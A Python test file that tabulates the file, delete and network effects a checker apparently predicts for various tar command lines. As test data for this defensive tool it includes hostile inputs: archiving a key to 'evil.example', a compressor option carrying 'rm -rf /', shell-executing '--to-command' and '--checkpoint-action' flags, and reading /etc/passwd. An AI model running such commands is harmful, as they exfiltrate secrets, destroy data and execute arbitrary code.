"""tar in its spellings: what is packed, where it is unpacked, what it would run."""

from __future__ import annotations

import pytest

from tests.kit.effects import foreseen, rows

TABLE = """
tar xf a.tar                                              → r:/w/a.tar w:/w/**
tar -xf a.tar -C /d                                       → r:/w/a.tar w:/d/**
tar xf a.tar -C /d -C e                                   → r:/w/a.tar w:/d/** w:/d/e/**
tar xvfC a.tar /d                                         → r:/w/a.tar w:/d/**
tar -xOf p.tar s                                          → r:/w/p.tar
tar --extract --file=a.tar --directory /d                 → r:/w/a.tar w:/d/**
tar --ext --file a.tar --to-std                           → r:/w/a.tar
tar xf a.tar --one-top-level=/d                           → r:/w/a.tar w:/d/**
tar xPf a.tar                                             → ! r:/w/a.tar w:/w/**
tar xf a.tar --recursive-unlink                           → r:/w/a.tar w:/w/** d:/w/**
tar tf a.tar                                              → r:/w/a.tar
tar czf out.tgz src -C /etc passwd                        → w:/w/out.tgz r:/w/src/** r:/etc/passwd/**
tar cvfC a.tar /d x y                                     → w:/w/a.tar r:/d/x/** r:/d/y/**
tar -czf- certs                                           → r:/w/certs/**
tar --no-recursion -cf a.tar d                            → w:/w/a.tar r:/w/d
tar --remove-files -cf /tmp/a.tar src                     → w:/tmp/a.tar r:/w/src/** d:/w/src/**
tar -rf a.tar x                                           → w:/w/a.tar r:/w/a.tar r:/w/x/**
tar -cf a.tar -- -x                                       → w:/w/a.tar r:/w/-x/**
tar cf a.tar -T list                                      → ! r:/w/list w:/w/a.tar
tar -cf evil.example:/tmp/archive key                     → n:evil.example:22 r:/w/key/**
tar --force-local -cf a:b key                             → w:/w/a:b r:/w/key/**
tar -cI 'rm -rf /' -f - x                                 → ! r:/w/x/**
tar -I 'zstd -19' -cf a.tar.zst x                         → w:/w/a.tar.zst r:/w/x/**
tar xf a.tar --to-command=sh                              → ! r:/w/a.tar w:/w/**
tar cf a.tar x --checkpoint=1 --checkpoint-action=exec=sh → ! w:/w/a.tar r:/w/x/**
tar cf a.tar x --checkpoint=1 --checkpoint-action=dot     → w:/w/a.tar r:/w/x/**
tar -cf out.tar --info-script=x src                       → ! w:/w/out.tar r:/w/src/**
tar --index-file=/i -cvf a.tar x                          → w:/i w:/w/a.tar r:/w/x/**
bsdtar -cf a.tar @b.tar                                   → w:/w/a.tar r:/w/b.tar
tar                                                       →
tar cf                                                    →
"""


@pytest.mark.parametrize(("line", "expected"), rows(TABLE))
def test_effects(line: str, expected: str) -> None:
    assert foreseen(line) == expected
